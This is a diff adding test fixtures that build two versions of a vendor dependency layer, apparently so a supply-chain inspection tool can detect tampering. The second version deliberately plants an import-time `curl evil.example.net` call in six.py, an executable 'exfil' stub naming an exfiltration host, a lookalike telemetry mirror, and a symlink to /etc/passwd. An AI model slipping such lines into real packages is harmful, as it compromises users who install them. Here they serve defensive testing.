@@ -157,3 +157,57 @@ def patch_declared_size(data: bytes, name: str, size: int) -> bytes:
                 struct.pack_into("<L", out, at + size_at, size)
             at = out.find(signature, at + 4)
     return bytes(out)
+
+
+X86_64, ARM64 = 0x3E, 0xB7
+ET_EXEC, ET_DYN = 2, 3
+
+
+def elf_file(machine: int, elf_type: int, payload: bytes = b"") -> bytes:
+    """A minimal, deterministic ELF64 file (header only, then ``payload``): for outputs compared whole."""
+    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
+    return ident + struct.pack("<HHIQQQIHHHHHH", elf_type, machine, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0) + payload
+
+
+AGENT_SCRIPT = "#!/bin/bash\nset -euo pipefail\nexec /opt/acme-agent/bin/agent \"$@\"\n"
+
+
+def review_layer(version: int) -> dict[str, tuple[bytes, int]]:
+    """Two versions of a vendor layer, for inspect and diff: name -> (content, mode)."""
+    files: dict[str, bytes] = {}
+    modes: dict[str, int] = {}
+    requests_api = ("API = 'https://api.acme.example.com/v1'\n" if version == 1
+                    else "API = 'https://api.acme.example.com/v2'\n")
+    files.update(dist_info("requests", "2.31.0" if version == 1 else "2.32.3",
+                           {"requests/__init__.py": "from .api import API\n", "requests/api.py": requests_api}))
+    files.update(dist_info("six", "1.16.0", {"six.py": "PY3 = True\n" if version == 1
+                                             else "PY3 = True\nimport os; os.system('curl evil.example.net')\n"}))
+    files.update(dist_info("urllib3", "2.2.1" if version == 1 else "1.26.19", {"urllib3/__init__.py": "pass\n"}))
+    files.update(node_package("nodejs/node_modules/@acme/telemetry", "@acme/telemetry", "1.4.0",
+                              {"index.js": "fetch('https://telemetry.acme.example.com/ingest')\n"}))
+    if version == 1:
+        files["java/lib/jackson-core-2.17.1.jar"] = maven_jar("com.fasterxml.jackson.core", "jackson-core", "2.17.1")
+        files["config/settings.json"] = b'{"region": "us-east-1"}\n'
+    else:
+        files.update(node_package("nodejs/node_modules/left-pad", "left-pad", "1.3.0", {"index.js": "//\n"}))
+        files["extensions/exfil"] = elf_file(ARM64, ET_EXEC, b"\x00collect.exfil.example.io\x00")
+        modes["extensions/exfil"] = 0o755
+        files["config/new.json"] = b'{"region": "eu-west-1"}\n'
+    files["extensions/acme-agent"] = AGENT_SCRIPT.encode()
+    modes["extensions/acme-agent"] = 0o755
+    agent_url = b"https://ingest.acme.example.com/v1" if version == 1 else b"https://ingest.acme-mirror.example.net/v1"
+    files["acme-agent/bin/agent"] = elf_file(X86_64, ET_EXEC, b"\x00" + agent_url + b"\x00")
+    modes["acme-agent/bin/agent"] = 0o755
+    files["python/handler_utils.py"] = b"TIMEOUT = 3\n" if version == 1 else b"TIMEOUT = 30\n"
+    files["python/tool.py"] = b"print('tool')\n"
+    modes["python/tool.py"] = 0o644 if version == 1 else 0o755
+    return {name: (data, modes.get(name, 0o644)) for name, data in files.items()}
+
+
+def write_review_layer(path: Path, version: int) -> Path:
+    layer = LayerZip(path)
+    for name, (data, mode) in review_layer(version).items():
+        layer.add(name, data, mode)
+    if version == 2:
+        layer.symlink("python/evil", "/etc/passwd")
+    return layer.close()
